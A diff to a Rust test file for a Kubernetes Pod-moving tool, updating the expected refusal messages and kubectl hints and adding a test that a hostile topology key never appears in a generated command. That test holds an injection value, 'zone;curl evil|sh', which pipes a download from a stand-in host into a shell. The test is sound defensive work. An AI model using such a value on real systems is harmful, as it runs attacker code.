@@ -2,6 +2,7 @@ use pps_core::{MOVE_ANNOTATION, RECORD_ANNOTATION};
 use serde_json::{Value, json};
 
 use super::*;
+use crate::decide::command_line::CommandLine;
 use crate::snapshot::{Node, Pps, Scope, Workload, forbidden};
 
 const HOST: &str = "kubernetes.io/hostname";
@@ -84,6 +85,13 @@ fn planned(snapshot: &Snapshot, request: &Request<'_>) -> PodMove {
 
 fn refused(snapshot: &Snapshot, request: &Request<'_>) -> Refusal {
     decide(snapshot, request).unwrap_err()
+}
+
+/// What a user reads who has named a context.
+fn said(refusal: Refusal) -> String {
+    let flags = vec![("context", "blue".to_owned())];
+    let commands = CommandLine { own_namespace: Some("prod".into()), flags };
+    crate::render::move_pod::refusal(refusal, &commands).to_string()
 }
 
 fn after(one: &PodMove) -> Value {
@@ -260,9 +268,10 @@ fn no_pod_is_moved_in_a_namespace_that_is_not_enabled() {
     object["status"]["conditions"] = json!([{"type": "Recording", "status": "False", "reason": "NamespaceNotEnabled", "message": "label it"}]);
     let world = snapshot(&[pod("db-0", Some("node-1"), None)], &[object]);
     let refusal = refused(&world, &anywhere());
-    assert_eq!(refusal, Refusal::NotEnabled("prod".into()));
-    let command = "kubectl label namespace prod persistent-pod-state/injection=enabled --overwrite";
-    assert!(crate::Failure::from(refusal).to_string().ends_with(command));
+    assert_eq!(refusal, Refusal::NotEnabled { namespace: "prod".into() });
+    let command =
+        "kubectl label namespace prod persistent-pod-state/injection=enabled --overwrite --context blue";
+    assert!(said(refusal).ends_with(command));
 }
 
 #[test]
@@ -358,6 +367,7 @@ fn a_move_that_is_not_possible_says_why() {
     assert!(matches!(bare, Refusal::NotGoverned { waits: false, .. }));
     let bare = refused(&snapshot(&[pod("db-0", None, Some("node-1"))], &[]), &anywhere());
     assert!(matches!(bare, Refusal::NotGoverned { waits: true, .. }));
+    assert!(said(bare).contains(": kubectl delete pod db-0 --context blue has it created again"));
     let mut free = pod("db-0", Some("node-1"), None);
     free["metadata"]["ownerReferences"] = json!([]);
     assert_eq!(refused(&snapshot(&[free], &[]), &anywhere()), Refusal::NoController { pod: "db-0".into() });
@@ -385,7 +395,15 @@ fn nothing_is_decided_on_lists_that_could_not_be_read() {
     let mut world = running();
     world.nodes = None;
     world.unread = vec![forbidden("list nodes"), forbidden("list pods")];
-    assert_eq!(planned(&world, &anywhere()).forecast, None);
+    let blind = planned(&world, &anywhere());
+    assert_eq!(blind.forecast, None);
+    let notes = |world: &Snapshot| crate::render::move_pod::notes(&blind, world.unread(Resource::Nodes));
+    assert_eq!(
+        notes(&world),
+        ["you have no permission to list nodes, so where the Pod may land is not known"]
+    );
+    world.unread[0].why = Some("500".into());
+    assert_eq!(notes(&world), ["cannot read nodes: 500, so where the Pod may land is not known"]);
     let unread = vec![forbidden("list persistentpodstates.apps.kruise.io in namespace prod")];
     world.unread = unread.clone();
     assert!(matches!(refused(&world, &anywhere()), Refusal::Unread(_)));
@@ -455,6 +473,20 @@ fn as_few_values_as_possible_are_to_be_given_up() {
     assert_eq!(way_out(&world).unwrap().flags, " --any rack --any zone");
     cordon(&mut world, &["node-3"]);
     assert_eq!(way_out(&world), None, "it would not help");
+}
+
+#[test]
+fn a_key_that_a_shell_would_obey_is_in_no_command() {
+    let hostile = "zone;curl evil|sh";
+    let mut world = requiring(&[ZONE, HOST]);
+    let mut object = world.pps[0].object().clone();
+    object["spec"]["requiredPersistentTopology"]["nodeTopologyKeys"] = json!([ZONE, hostile]);
+    object["status"]["podStates"]["db-0"]["nodeTopologyLabels"][hostile] = json!("a");
+    world.pps = Pps::read(object).into_iter().collect();
+    cordon(&mut world, &["node-1", "node-2"]);
+    let one = planned(&world, &anywhere());
+    let Some(Obstacle::NoNode(_, Some(found))) = &one.obstacle else { panic!("{one:?}") };
+    assert_eq!(found.flags, " --any zone");
 }
 
 #[test]
